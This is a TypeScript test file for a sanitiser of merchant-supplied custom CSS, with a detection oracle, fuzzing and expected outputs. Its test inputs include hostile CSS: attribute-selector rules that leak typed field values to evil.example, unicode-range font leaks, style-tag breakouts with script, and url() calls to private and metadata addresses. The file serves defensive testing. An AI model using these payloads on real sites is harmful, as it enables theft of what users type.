import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { HOSTILE_CSS, ORDINARY_RULE, STORE_IMAGE_HOST } from './hostile-css-corpus'
import { sanitizeCustomCss } from './sanitize-css'

const storeCss = (css: string) => sanitizeCustomCss(css, { imageHosts: [STORE_IMAGE_HOST] })

/**
 * What a hostile sheet could use to read typed text, load from elsewhere, run code or end
 * the <style> element, found with plain text matching (not css-tree) after decoding CSS
 * escapes and removing comments, so it does not share the sanitiser's reading of the CSS.
 */
function exfiltrationVectors(css: string): string[] {
  const found: string[] = []
  if (/<\/|<!--/.test(css)) found.push('ends the <style> element')
  if (/\/\*/.test(strip(css, 'strings'))) found.push('a comment')
  const text = decodeEscapes(strip(css, 'comments'))
  const code = decodeEscapes(strip(css, 'strings'))
  if (/evil\.example|169\.254\.|10\.0\.0\.|192\.168\.|127\.0\.|0x7f|\[::1\]|javascript:/i.test(text))
    found.push('a forbidden host or scheme')
  for (const match of text.matchAll(/url\(\s*["']?([^"')]*)/gi)) if (!isStoreImage(match[1])) found.push(`url(${match[1]})`)
  for (const [, name] of code.matchAll(/@([-\w]+)/g))
    if (!/^(media|supports|container|layer|keyframes|page)$/i.test(name)) found.push(`@${name}`)
  for (const match of code.matchAll(/([-\w]+)\(/g)) {
    const name = match[1].toLowerCase()
    if (/^(-webkit-)?(image-set|image|cross-fade)$|^(-moz-)?element$|^(src|paint|expression)$/.test(name)) found.push(`${name}()`)
    if (name === 'attr' && !/(^|[;{])\s*content\s*:[^;{}]*$/i.test(code.slice(0, match.index))) found.push('attr() outside content')
  }
  if (/(^|[;{])\s*[*_]?(behavior|-ms-behavior|-moz-binding)\s*:/im.test(code)) found.push('a code-loading property')
  if (/unicode-range/i.test(code)) found.push('unicode-range')
  for (const [, name] of code.matchAll(/\[\s*(?:[-\w*]*\|)?\s*([-\w]+)/g))
    if (/^(value|name|type|placeholder|autocomplete|selected|checked|aria-valuetext|aria-valuenow|data-value)$/i.test(name))
      found.push(`[${name}]`)
  if (new RegExp(`${FIELD}[^\\s>+~,{}()]*\\[`, 'i').test(code)) found.push('an attribute of a form field')
  for (const [, inside] of code.matchAll(/:has\(([^{}]*)/gi)) if (new RegExp(FIELD, 'i').test(inside)) found.push(':has() of a form field')
  if (/:(-webkit-)?(placeholder-shown|autofill|valid|invalid|user-valid|user-invalid|in-range|out-of-range|blank)(?![-\w])/i.test(code))
    found.push('a typed-text state')
  return found
}

const FIELD = '(?:^|[^-\\w.#\\\\])(?:input|textarea|select|option|button|form)(?![-\\w])'

function isStoreImage(href: string): boolean {
  try {
    const url = new URL(href, 'https://same-site.invalid/')
    if (url.username || url.password) return false
    if (href.startsWith('/')) return url.origin === 'https://same-site.invalid'
    return href.startsWith('https://') && url.origin === `https://${STORE_IMAGE_HOST}`
  } catch {
    return false
  }
}

/** The text with comments removed, and with strings emptied too when asked. */
function strip(css: string, what: 'comments' | 'strings'): string {
  return css.replace(/\/\*[\s\S]*?(?:\*\/|$)|"(?:[^"\\\n]|\\[\s\S])*(?:"|$)|'(?:[^'\\\n]|\\[\s\S])*(?:'|$)/g, (part) =>
    part.startsWith('/*') ? '' : what === 'strings' ? '""' : part,
  )
}

/** CSS escapes decoded as the CSS tokenizer reads them: hex (and one whitespace after), or the next character. */
function decodeEscapes(css: string): string {
  return css.replace(/\\([0-9a-f]{1,6})(?:\r\n|[ \t\r\n\f])?|\\([^\n0-9a-f])/gi, (_match, hex?: string, ch?: string) => {
    if (hex === undefined) return ch ?? ''
    const code = Number.parseInt(hex, 16)
    return code === 0 || code > 0x10ffff || (code >= 0xd800 && code <= 0xdfff) ? '\uFFFD' : String.fromCodePoint(code)
  })
}

describe('sanitizeCustomCss against the hostile corpus', () => {
  it.each(HOSTILE_CSS.map((piece) => [piece.name, piece] as const))('%s: leaves no way to read, load or break out', (_name, piece) => {
    // The oracle sees the attack in what the merchant wrote…
    expect(exfiltrationVectors(piece.css)).not.toEqual([])
    const sanitized = storeCss(`${ORDINARY_RULE}\n${piece.css}`)
    // …and nothing of it in what the page gets.
    expect(exfiltrationVectors(sanitized)).toEqual([])
    if (piece.keepsOtherRules !== false) expect(sanitized).toContain(ORDINARY_RULE)
  })

  it('drops what css-tree cannot read instead of passing it through', () => {
    expect(storeCss('[/\\**/value^="a"]{color:red} p{color:blue}')).toBe('p{color:blue}')
    expect(storeCss('a{background:u\\72l(http://10.0.0.1/x);color:red}')).toBe('a{color:red}')
  })

  it('survives any mix of hostile fragments: never a vector, never a throw, and its own output comes back unchanged', () => {
    const fragments = [
      'input',
      'textarea',
      'p',
      '.x',
      '&',
      ' ',
      '>',
      ',',
      '[',
      ']',
      'value',
      'data-x',
      '^=',
      '"a"',
      "'</style>'",
      '(',
      ')',
      '{',
      '}',
      ';',
      ':',
      'color:red',
      'background:',
      'url(',
      'https://evil.example/x',
      `https://${STORE_IMAGE_HOST}/a.png`,
      '/ok.png',
      '//evil.example/y',
      ':has(',
      ':not(',
      ':is(',
      ':placeholder-shown',
      '@import',
      '@font-face',
      '@media all',
      '@keyframes k',
      'image-set(',
      'attr(',
      'content:',
      '--v:',
      'var(--v)',
      '\\',
      '\\72',
      '\\69 ',
      'u\\72l(',
      '/*',
      '*/',
      '<',
      '</style>',
      '\n',
    ]
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...fragments), { maxLength: 40 }), (parts) => {
        const sanitized = storeCss(parts.join(''))
        expect(exfiltrationVectors(sanitized)).toEqual([])
        expect(storeCss(sanitized)).toBe(sanitized)
      }),
      { numRuns: 400 },
    )
  })
})

describe('sanitizeCustomCss keeps ordinary merchant CSS', () => {
  it.each([
    [
      'colours',
      '.hero { color: #fff; background-color: rgb(12 34 56 / 50%); border-color: hsl(210deg 40% 50%); accent-color: oklch(70% 0.1 200) }',
      '.hero{color:#fff;background-color:rgb(12 34 56/50%);border-color:hsl(210deg 40% 50%);accent-color:oklch(70%0.1 200)}',
    ],
    [
      'fonts by name',
      'body { font-family: "Playfair Display", Georgia, serif; font-weight: 600; line-height: 1.5 }',
      'body{font-family:"Playfair Display",Georgia,serif;font-weight:600;line-height:1.5}',
    ],
    [
      'grids',
      '.products { display: grid; grid-template-columns: repeat(auto-fill, minmax(14rem, 1fr)); gap: clamp(1rem, 2vw, 2rem); grid-template-areas: "hero hero" "side main" }',
      '.products{display:grid;grid-template-columns:repeat(auto-fill,minmax(14rem,1fr));gap:clamp(1rem,2vw,2rem);grid-template-areas:"hero hero""side main"}',
    ],
    [
      'media queries',
      '@media (max-width: 600px) { .hero h1 { font-size: 1.5rem } } @media (prefers-color-scheme: dark) and (min-width: 40em) { body { background: #111 } } @media (400px <= width <= 700px) { .x { display: none } }',
      '@media (max-width:600px){.hero h1{font-size:1.5rem}}@media (prefers-color-scheme:dark) and (min-width:40em){body{background:#111}}@media (400px<=width<=700px){.x{display:none}}',
    ],
    [
      'keyframes',
      '@keyframes pulse { 0%, 100% { opacity: 1 } 50% { opacity: .5; transform: scale(1.05) } } .badge { animation: pulse 2s ease-in-out infinite }',
      '@keyframes pulse{0%,100%{opacity:1}50%{opacity:.5;transform:scale(1.05)}}.badge{animation:pulse 2s ease-in-out infinite}',
    ],
    [
      'custom properties',
      ':root { --brand: #ff5a5f; --radius: 12px } .button { border-radius: var(--radius); background: var(--brand, #000) }',
      ':root{--brand:#ff5a5f;--radius:12px}.button{border-radius:var(--radius);background:var(--brand,#000)}',
    ],
    [
      "url() to the store's image host and its own paths",
      `.hero { background: url(https://${STORE_IMAGE_HOST}/hero.jpg) center / cover no-repeat } .tee { background-image: url("/mockups/tee.png") }`,
      `.hero{background:url("https://${STORE_IMAGE_HOST}/hero.jpg") center/cover no-repeat}.tee{background-image:url("/mockups/tee.png")}`,
    ],
    [
      'pseudo-classes and generated content',
      'a:hover, a:focus-visible { text-decoration: underline } .nav > li + li::before { content: "·" } input:focus { outline: 2px solid var(--brand) }',
      'a:hover,a:focus-visible{text-decoration:underline}.nav>li+li::before{content:"·"}input:focus{outline:2px solid var(--brand)}',
    ],
    [
      'nested rules, with and without &',
      '.card { padding: 1rem; &:hover { box-shadow: 0 0 0 2px #000 } .title { font-weight: 700 } a:hover { color: red; span:focus { outline: 0 } } }',
      '.card{padding:1rem;&:hover{box-shadow:0 0 0 2px #000}.title{font-weight:700}a:hover{color:red;span:focus{outline:0}}}',
    ],
    [
      '@supports, @container and @layer',
      '@supports (display: grid) { .x { display: grid } } .shelf { container-type: inline-size } @container (min-width: 30rem) { .tile { flex-direction: row } } @layer base, theme; @layer theme { h1 { letter-spacing: .02em } }',
      '@supports (display:grid){.x{display:grid}}.shelf{container-type:inline-size}@container (min-width:30rem){.tile{flex-direction:row}}@layer base,theme;@layer theme{h1{letter-spacing:.02em}}',
    ],
    [
      'attribute selectors on links and styling hooks',
      'a[href^="https://"]::after { content: "↗" } [data-theme="dark"] .hero { color: #eee } [aria-expanded="true"] > .chevron { transform: rotate(180deg) }',
      'a[href^="https://"]::after{content:"↗"}[data-theme="dark"] .hero{color:#eee}[aria-expanded="true"]>.chevron{transform:rotate(180deg)}',
    ],
    [
      '!important, escaped class names, transitions and filters',
      '.sale { color: red !important } .md\\:flex { display: flex } .fade { transition: opacity .2s cubic-bezier(.4, 0, .2, 1); filter: drop-shadow(0 1px 2px rgba(0,0,0,.3)) }',
      '.sale{color:red!important}.md\\:flex{display:flex}.fade{transition:opacity .2s cubic-bezier(.4,0,.2,1);filter:drop-shadow(0 1px 2px rgba(0,0,0,.3))}',
    ],
    [
      '@page and attr() in content',
      '@page { margin: 1cm } .price::after { content: " " attr(data-currency) }',
      '@page{margin:1cm}.price::after{content:" "attr(data-currency)}',
    ],
  ])('%s', (_name, css, expected) => {
    expect(storeCss(css)).toBe(expected)
  })

  it('keeps ordinary styling, written without comments or spare whitespace', () => {
    expect(sanitizeCustomCss('.hero h1 { letter-spacing: 2px; /* wide */ color: #fff }')).toBe('.hero h1{letter-spacing:2px;color:#fff}')
  })
})

describe('sanitizeCustomCss', () => {
  it('cannot close the style element', () => {
    const css = sanitizeCustomCss('a{color:red}</style><script>alert(1)</script>')
    expect(css.toLowerCase()).not.toContain('</style')
    expect(css).not.toContain('<')
    expect(css).toBe('a{color:red}')
  })

  it('writes < and > inside strings as escapes the CSS still reads as the same text', () => {
    expect(sanitizeCustomCss('a::before{content:"</style>"}')).toBe('a::before{content:"\\3c /style\\3e "}')
  })

  it('drops imports, expressions and bindings', () => {
    const css = sanitizeCustomCss(
      '@import url(https://evil.example/x.css); a{width:expression(alert(1)); -moz-binding: url(x); color: red}',
    )
    expect(css).toBe('a{color:red}')
  })

  it('keeps https images but not private or plain-http ones', () => {
    expect(sanitizeCustomCss('a{background:url(https://cdn.example.com/a.png)}')).toBe('a{background:url("https://cdn.example.com/a.png")}')
    expect(sanitizeCustomCss('a{color:red;background:url(http://cdn.example.com/a.png)}')).toBe('a{color:red}')
    expect(sanitizeCustomCss('a{color:red;background:url(https://169.254.169.254/x)}')).toBe('a{color:red}')
  })

  it('removes rules that could read typed values', () => {
    const css = sanitizeCustomCss('input[value^="4"]{background:url(https://evil.example/4)} p{color:red}')
    expect(css).toBe('p{color:red}')
  })

  it('does not let escapes smuggle a url or an import back in', () => {
    expect(sanitizeCustomCss('a{background:u\\72l(http://10.0.0.1/x)}')).toBe('')
    const css = sanitizeCustomCss('@\\import url(https://evil.example/x.css); @imp\\ort "https://evil.example/y.css"; a{color:red}')
    expect(css).toBe('a{color:red}')
  })

  it('loads nothing through a url() it cannot read cleanly', () => {
    const css = sanitizeCustomCss('a{background:url("http://10.0.0.1/x)y")} b{background:url(https://cdn.example.com/b.png"x)}')
    expect(css).toBe('')
  })

  it('loads nothing through functions that take a URL as a string', () => {
    const css = sanitizeCustomCss(
      'a{color:red;background:image-set("https://192.168.1.1/x.png" 1x)} b{background:-webkit-image-set("https://evil.example/y.png" 1x)} c{background:src("https://evil.example/z")}',
    )
    expect(css).toBe('a{color:red}')
  })

  it('drops fonts, whose unicode-range would tell which characters were typed', () => {
    const css = sanitizeCustomCss(
      '@font-face{font-family:leak;src:url(https://evil.example/a.woff);unicode-range:U+0061} p{font-family:leak}',
    )
    expect(css).toBe('p{font-family:leak}')
  })

  it('removes field-reading rules however the attribute is spelled or nested', () => {
    const css = sanitizeCustomCss(
      '[*|value^="a"]{background:url(https://evil.example/a)} [|name=x]{color:red} body:has(input[value^="b"]){ & .x{background:url(https://evil.example/b)} } @media (min-width:1px){ [VALUE$=c]{background:url(https://evil.example/c)} p{color:green} } p{color:blue}',
    )
    expect(css).toBe('@media (min-width:1px){p{color:green}}p{color:blue}')
  })

  it('keeps a rule nested in a field rule only when it reads no attribute of the field', () => {
    expect(sanitizeCustomCss('input{border:0;&:focus{outline:1px solid}&[data-x^=a]{color:red}}')).toBe(
      'input{border:0;&:focus{outline:1px solid}}',
    )
  })

  it("allows url() only to the store's own image hosts and paths when told them", () => {
    const css = sanitizeCustomCss(
      'a{background:url(https://cdn.shop.example/a.png)} b{background:url(https://evil.example/b.png)} c{background:url(/mockups/c.svg)} d{background:url(//evil.example/d)} e{background:url(/\\\\evil.example/e)}',
      { imageHosts: ['cdn.shop.example'] },
    )
    expect(css).toBe('a{background:url("https://cdn.shop.example/a.png")}c{background:url("/mockups/c.svg")}')
  })

  it('gives up on nothing but what it cannot read: malformed CSS never throws', () => {
    for (const css of ['a{', '}', '@media', '"', 'url(', '\\', '{{{{', '@import', '[', ':has(', '&{'.repeat(20_000)]) {
      expect(() => sanitizeCustomCss(css)).not.toThrow()
    }
  })

  it('answers the same sheet twice the same way', () => {
    const css = `.a{background:url(https://${STORE_IMAGE_HOST}/a.png)}`
    expect(storeCss(css)).toBe(storeCss(css))
    expect(sanitizeCustomCss(css, { imageHosts: ['elsewhere.example'] })).toBe('')
  })
})
